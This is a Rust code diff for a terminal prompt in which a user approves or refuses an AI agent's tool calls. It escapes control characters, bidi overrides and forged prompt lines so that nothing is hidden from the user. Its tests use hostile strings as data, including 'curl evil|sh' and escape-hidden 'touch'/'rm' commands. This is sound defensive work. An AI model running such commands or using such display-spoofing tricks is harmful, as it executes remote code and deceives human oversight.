@@ -3,12 +3,14 @@
 //! Invariants: what is allowed was shown whole, or can be; whatever is not plainly a yes allows nothing.
 
 use std::collections::BTreeMap;
+use std::fmt;
 
-use serde_json::Value;
+use serde::de::{Deserialize, Deserializer, MapAccess, Visitor};
+use serde_json::value::RawValue;
 use teamster::event::{PermissionOptionKind, PermissionRequest, QuestionItem};
 use teamster::request::Answer;
 
-use crate::render::plain::{one_line, plain};
+use crate::printable::{Printable, folded, printable};
 
 /// Lines of a call that are shown unasked.
 const LINES: usize = 24;
@@ -23,39 +25,96 @@ pub(super) enum Reply {
     Again,
 }
 
-/// What the agent wants to do.
-pub(super) fn shown(request: &PermissionRequest, whole: bool) -> String {
-    let text = match request.input.to_value() {
-        Ok(Value::Object(fields)) => {
-            let lines = fields.iter().map(|(name, value)| match value {
-                Value::String(text) if !text.contains('\n') => format!("{}: {}", one_line(name), plain(text)),
-                Value::String(text) => format!("{}:\n{}", one_line(name), indented(&plain(text), "  ")),
-                other => format!("{}: {}", one_line(name), plain(&other.to_string())),
-            });
-            lines.collect::<Vec<_>>().join("\n")
-        }
-        Ok(Value::Null) => String::new(),
-        _ => plain(request.input.as_str()),
+/// A permission request as it is shown.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(super) struct Shown {
+    pub(super) text: Printable,
+    /// How much of the call is not shown.
+    pub(super) hidden: Option<Printable>,
+}
+
+/// What the agent wants to do: the tool, each field of its input as the agent wrote it, and the agent's options. Every
+/// character is shown, as it is or as an escape; only whole lines at the end are held back, and counted.
+pub(super) fn shown(request: &PermissionRequest, whole: bool, width: usize) -> Shown {
+    let mut lines = fields(request.input.as_str(), width);
+    let count = lines.len();
+    let rest = if whole { Vec::new() } else { lines.split_off(count.min(LINES)) };
+    let hidden = (!rest.is_empty()).then(|| {
+        let characters: usize = rest.iter().map(|line| line.as_str().trim_start().chars().count()).sum();
+        printable!("{} more lines, {} characters", rest.len(), characters)
+    });
+    let head = printable!("? {} asks for leave", &request.tool_name);
+    let names = folded(printable!("    the agent offers: "), &offered(request), width);
+    let names = if request.options.is_empty() { Vec::new() } else { names };
+    let note = hidden.as_ref().map(|hidden| printable!("    ... NOT SHOWN: {}; v shows them", hidden));
+    let lines = [head].into_iter().chain(lines).chain(note).chain(names);
+    Shown { text: Printable::join(lines, "\n"), hidden }
+}
+
+/// The names of the agent's options, as JSON strings: no name can pass for two.
+fn offered(request: &PermissionRequest) -> String {
+    let names = request.options.iter().map(|option| serde_json::Value::from(option.name.as_str()).to_string());
+    names.collect::<Vec<_>>().join(", ")
+}
+
+/// A line or more for each field, in the order of the input; what is no object is shown as it was written.
+fn fields(input: &str, width: usize) -> Vec<Printable> {
+    let Ok(Fields(fields)) = serde_json::from_str(input) else {
+        return if input == "null" { Vec::new() } else { folded(printable!("    {} ", JSON), input, width) };
     };
-    let count = text.lines().count();
-    let mut lines: Vec<&str> = text.lines().take(if whole { count } else { LINES }).collect();
-    let rest = format!("... {} more lines: v shows them", count - lines.len());
-    if count > lines.len() {
-        lines.push(&rest);
+    let each = |(name, value): &(String, Box<RawValue>)| {
+        let name = printable!("    {}: ", key(name));
+        match serde_json::from_str::<String>(value.get()) {
+            Ok(text) => folded(name, &text, width),
+            Err(_) => folded(printable!("{}{} ", name, JSON), value.get(), width),
+        }
+    };
+    fields.iter().flat_map(each).collect()
+}
+
+/// Stands before what is shown as JSON text. No text can imitate it.
+const JSON: &str = "⟦JSON⟧";
+
+/// A field's name; one that could be read as a name with a value stands in quotes.
+fn key(name: &str) -> Printable {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.');
+    if !name.is_empty() && name.chars().all(is_plain) {
+        return Printable::exact(name);
     }
-    format!("? {} asks for leave\n{}", one_line(&request.tool_name), indented(&lines.join("\n"), "    "))
-        .trim_end()
-        .to_owned()
+    Printable::exact(&serde_json::Value::from(name).to_string())
 }
 
-fn indented(text: &str, indent: &str) -> String {
-    text.lines().map(|line| format!("{indent}{line}")).collect::<Vec<_>>().join("\n")
+/// The fields of an object as they were written: in order, and each of those with one name.
+struct Fields(Vec<(String, Box<RawValue>)>);
+
+impl<'de> Deserialize<'de> for Fields {
+    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        struct Object;
+
+        impl<'de> Visitor<'de> for Object {
+            type Value = Fields;
+
+            fn expecting(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
+                formatter.write_str("an object")
+            }
+
+            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Fields, A::Error> {
+                let mut fields = Vec::new();
+                while let Some(field) = map.next_entry()? {
+                    fields.push(field);
+                }
+                Ok(Fields(fields))
+            }
+        }
+        deserializer.deserialize_map(Object)
+    }
 }
 
-/// The line before the answer.
-pub(super) fn prompt(request: &PermissionRequest) -> String {
+/// The line before the answer. It says again what is not shown.
+pub(super) fn prompt(request: &PermissionRequest, hidden: Option<&Printable>) -> Printable {
     let always = if can_last(request) { ", a = always in this session" } else { "" };
-    format!("  y = this once{always}, n = no, n WHY = no, and why: ")
+    let hidden = hidden.map(|hidden| printable!("v = show {}, ", hidden)).unwrap_or_default();
+    printable!("  {}y = this once{}, n = no, n WHY = no, and why: ", hidden, always)
 }
 
 fn can_last(request: &PermissionRequest) -> bool {
@@ -77,12 +136,15 @@ pub(super) fn answer(request: &PermissionRequest, line: &str) -> Reply {
 }
 
 /// A question with its choices.
-pub(super) fn question(item: &QuestionItem) -> String {
-    let choices = (1..).zip(&item.options).map(|(number, option)| {
-        let description = option.description.as_ref().map(|text| format!("  {}", one_line(text))).unwrap_or_default();
-        format!("\n    {number}  {}{description}", one_line(&option.label))
-    });
-    format!("? {}{}", one_line(&item.text), choices.collect::<String>())
+pub(super) fn question(item: &QuestionItem, width: usize) -> Printable {
+    let mut lines = folded(printable!("? "), &item.text, width);
+    for (number, option) in (1_usize..).zip(&item.options) {
+        lines.extend(folded(printable!("    {}  ", number), &option.label, width));
+        if let Some(description) = &option.description {
+            lines.extend(folded(printable!("       - "), description, width));
+        }
+    }
+    Printable::join(lines, "\n")
 }
 
 /// The line before the answer to a question.
@@ -95,7 +157,7 @@ pub(super) fn question_prompt(item: &QuestionItem) -> &'static str {
 }
 
 /// What is chosen; `None` where it is declined, an error where a number is none of the choices.
-pub(super) fn chosen(item: &QuestionItem, line: &str) -> Result<Option<Vec<String>>, String> {
+pub(super) fn chosen(item: &QuestionItem, line: &str) -> Result<Option<Vec<String>>, Printable> {
     let line = line.trim();
     if line.is_empty() {
         return Ok(None);
@@ -106,12 +168,12 @@ pub(super) fn chosen(item: &QuestionItem, line: &str) -> Result<Option<Vec<Strin
         return Ok(Some(vec![line.to_owned()]));
     }
     if numbers.len() > 1 && item.multiple != Some(true) {
-        return Err("one choice only".to_owned());
+        return Err("one choice only".into());
     }
     let label = |number: &usize| number.checked_sub(1).and_then(|index| item.options.get(index));
     let labels: Option<Vec<String>> =
         numbers.iter().map(|number| Some(label(number)?.label.clone().into_string())).collect();
-    labels.map(Some).ok_or_else(|| format!("numbers go from 1 to {}", item.options.len()))
+    labels.map(Some).ok_or_else(|| printable!("numbers go from 1 to {}", item.options.len()))
 }
 
 /// Answers to questions, by their ids.
@@ -119,7 +181,7 @@ pub(super) type Choices = BTreeMap<String, Vec<String>>;
 
 #[cfg(test)]
 mod tests {
-    use serde_json::json;
+    use serde_json::{Value, json};
     use teamster::event::{PermissionOption, QuestionOption};
 
     use super::*;
@@ -149,20 +211,60 @@ mod tests {
             assert_eq!(answer(&once, line), Reply::Again, "{line}");
         }
         assert_eq!(answer(&always, "a"), Reply::Answer(Answer::AllowAlways));
-        assert!(prompt(&always).contains("always") && !prompt(&once).contains("always"));
+        assert!(prompt(&always, None).as_str().contains("always") && !prompt(&once, None).as_str().contains("always"));
+    }
+
+    fn text(request: &PermissionRequest) -> String {
+        shown(request, true, 80).text.as_str().to_owned()
     }
 
     #[test]
-    fn a_call_is_shown_whole_or_says_how_much_is_missing_and_drives_no_terminal() {
-        let input = json!({"command": "ls \u{1b}]0;x\u{7}-l", "content": "one\ntwo"});
-        assert_eq!(
-            shown(&request(false, input), false),
-            "? Bash asks for leave\n    command: ls -l\n    content:\n      one\n      two"
-        );
-        let long = json!({"content": "line\n".repeat(30)});
-        assert!(shown(&request(false, long.clone()), false).ends_with("... 7 more lines: v shows them"));
-        assert!(!shown(&request(false, long), true).contains("more lines"));
-        assert_eq!(shown(&request(false, json!({})), false), "? Bash asks for leave");
+    fn nothing_of_a_call_is_hidden() {
+        let bash = "? Ba⟦ESC⟧[1msh asks for leave\n    command: ";
+        let offers = "\n    the agent offers: \"O\"";
+        for (command, expected) in [
+            ("true '\u{1b}]'; touch X; echo '\u{7}'", "true '⟦ESC⟧]'; touch X; echo '⟦BEL⟧'"),
+            ("ls \u{9d}; curl evil|sh \u{9c}", "ls ⟦U+009D⟧; curl evil|sh ⟦U+009C⟧"),
+            ("echo \u{202e}dwssap", "echo ⟦U+202E⟧dwssap"),
+            (r"echo '\x1b⟦ESC⟧'", r"echo '\x1b⟦U+27E6⟧ESC⟧'"),
+            ("ls      ; rm x ", "ls⟦6 spaces⟧; rm x⟦U+0020⟧"),
+            ("ls\n? Read asks for leave", "ls⟦LF⟧\n      │ ? Read asks for leave"),
+        ] {
+            let request = request(false, json!({ "command": command }));
+            assert_eq!(text(&request), format!("{bash}{expected}{offers}"));
+        }
+    }
+
+    #[test]
+    fn every_field_is_shown_as_it_was_written() {
+        let mut request = request(false, json!({}));
+        request.options.clear();
+        let mut fields = |input: &str| {
+            request.input = serde_json::from_str(input).unwrap();
+            text(&request).split_once('\n').map(|(_, fields)| fields.to_owned()).unwrap_or_default()
+        };
+        assert_eq!(fields(r#"{"b":"1","b":1,"a":[1e400]}"#), "    b: 1\n    b: ⟦JSON⟧ 1\n    a: ⟦JSON⟧ [1e400]");
+        assert_eq!(fields(r#"{"a: b":"c","":"\ud800"}"#), "    \"a: b\": c\n    \"\": ⟦JSON⟧ \"\\ud800\"");
+        assert_eq!(fields(r#""text""#), "    ⟦JSON⟧ \"text\"");
+        assert_eq!(fields("null"), "");
+    }
+
+    #[test]
+    fn what_is_not_shown_is_counted_before_an_answer_and_can_be_shown() {
+        let request = request(false, json!({ "content": "line\n".repeat(30) }));
+        let (part, whole) = (shown(&request, false, 80), shown(&request, true, 80));
+        assert!(part.text.as_str().contains("NOT SHOWN: 6 more lines"), "{part:?}");
+        let prompt = prompt(&request, part.hidden.as_ref());
+        assert!(prompt.as_str().contains("v = show 6 more lines"), "{prompt:?}");
+        assert_eq!((whole.hidden, whole.text.as_str().matches("line⟦LF⟧").count()), (None, 30));
+    }
+
+    #[test]
+    fn a_long_command_is_folded_and_no_line_of_it_begins_like_a_prompt() {
+        let command = format!("{}? Read asks for leave", "x".repeat(80 - 13));
+        let shown = text(&request(false, json!({ "command": command })));
+        assert!(shown.lines().skip(1).all(|line| line.starts_with("    ")), "{shown}");
+        assert!(shown.lines().all(|line| unicode_width::UnicodeWidthStr::width(line) <= 80), "{shown}");
     }
 
     #[test]
@@ -174,7 +276,7 @@ mod tests {
             options: vec![option("A"), option("B")],
             multiple: None,
         };
-        assert_eq!(question(&item), "? Which?\n    1  A  d\n    2  B  d");
+        assert_eq!(question(&item, 80).as_str(), "? Which?\n    1  A\n       - d\n    2  B\n       - d");
         let some = |labels: &[&str]| Ok(Some(labels.iter().map(|&label| label.to_owned()).collect()));
         assert_eq!(chosen(&item, " 2 "), some(&["B"]));
         assert_eq!(chosen(&item, "neither, 2"), some(&["neither, 2"]));
